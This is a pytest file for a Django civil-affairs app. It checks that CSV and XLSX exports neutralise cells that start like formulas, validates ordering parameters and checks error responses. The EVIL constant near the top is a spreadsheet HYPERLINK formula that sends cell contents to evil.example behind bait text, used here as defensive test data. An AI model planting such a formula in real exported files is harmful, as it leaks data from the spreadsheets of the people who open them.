"""One export helper for every list (SPEC §3): CSV with a BOM, formula-leading cells neutralised, ID numbers as
text, XLSX readable by a reader; ``?ordering=`` on declared columns, 400 otherwise."""

import csv
import io

import openpyxl
import pytest

from civil_affairs.accounts.models import Role
from civil_affairs.audit.models import AuditEvent
from civil_affairs.exports import neutralise
from tests.people.factories import PersonFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击领取")'


@pytest.mark.parametrize("leader", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_starts_like_a_formula_is_prefixed(leader):
    assert neutralise(f"{leader}1+1") == f"'{leader}1+1"
    assert neutralise("王秀英") == "王秀英"


def test_a_people_csv_opens_as_text_with_a_bom(api_as, make_user, divisions):
    admin = make_user(Role.ADMINISTRATOR, "370114")
    PersonFactory(name=EVIL, division_id="370114001001")

    response = api_as(admin).get("/api/v1/people/?format=csv")

    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    assert rows[0][0] == "Name"
    assert rows[1][0] == "'" + EVIL
    assert AuditEvent.objects.filter(action="export", object_type="people").count() == 1


def test_a_people_xlsx_has_text_cells_only_for_names(api_as, make_user, divisions):
    admin = make_user(Role.ADMINISTRATOR, "370114")
    PersonFactory(name=EVIL, division_id="370114001001")

    response = api_as(admin).get("/api/v1/people/?format=xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "Name"
    assert rows[1][0] == "'" + EVIL
    assert sheet.cell(row=2, column=1).data_type == "s"


def test_ordering_by_a_declared_column_and_400_for_an_undeclared_one(api_as, make_user, divisions):
    admin = make_user(Role.ADMINISTRATOR, "370114")
    for name in ("乙", "甲", "丙"):
        PersonFactory(name=name, division_id="370114001001")

    ordered = api_as(admin).get("/api/v1/people/?ordering=-name").json()["results"]
    refused = api_as(admin).get("/api/v1/people/?ordering=phone")

    assert [p["name"] for p in ordered] == sorted(["乙", "甲", "丙"], reverse=True)
    assert refused.status_code == 400 and "ordering" in refused.json()


def test_a_refusal_by_a_named_rule_carries_its_code(api_as, make_user, divisions):
    from civil_affairs.errors import RuleViolation

    error = RuleViolation("no", field="month", code="month_in_future")
    from civil_affairs.api.errors import exception_handler

    response = exception_handler(error, {})

    assert response.status_code == 400
    assert response.data == {"month": ["no"], "rule": "month_in_future"}


def test_a_404_says_not_found_in_the_callers_language_without_naming_the_model(api_as, make_user, divisions):
    user = make_user(Role.ADMINISTRATOR, "370114")
    client = api_as(user)
    client.credentials(
        HTTP_AUTHORIZATION=client._credentials["HTTP_AUTHORIZATION"], HTTP_ACCEPT_LANGUAGE="zh-hans"
    )

    response = client.get("/api/v1/eldercare/escrow-statements/999999/")

    assert response.status_code == 404
    assert "EscrowStatement" not in response.json()["detail"]


@pytest.mark.parametrize(
    "url",
    ["/api/v1/eldercare/inspections/", "/api/v1/eldercare/meal-reports/", "/api/v1/eldercare/trainings/"],
)
def test_a_list_without_declared_columns_still_exports(api_as, make_user, divisions, url):
    admin = make_user(Role.ADMINISTRATOR, "370114")

    csv_response = api_as(admin).get(url + "?format=csv")
    xlsx_response = api_as(admin).get(url + "?format=xlsx")

    assert csv_response.status_code == 200 and csv_response["Content-Type"].startswith("text/csv")
    header = b"".join(csv_response.streaming_content).decode("utf-8").lstrip("\ufeff").splitlines()[0]
    assert len(header.split(",")) >= 3  # one column per field the list shows
    assert openpyxl.load_workbook(io.BytesIO(xlsx_response.content)).active.max_row == 1
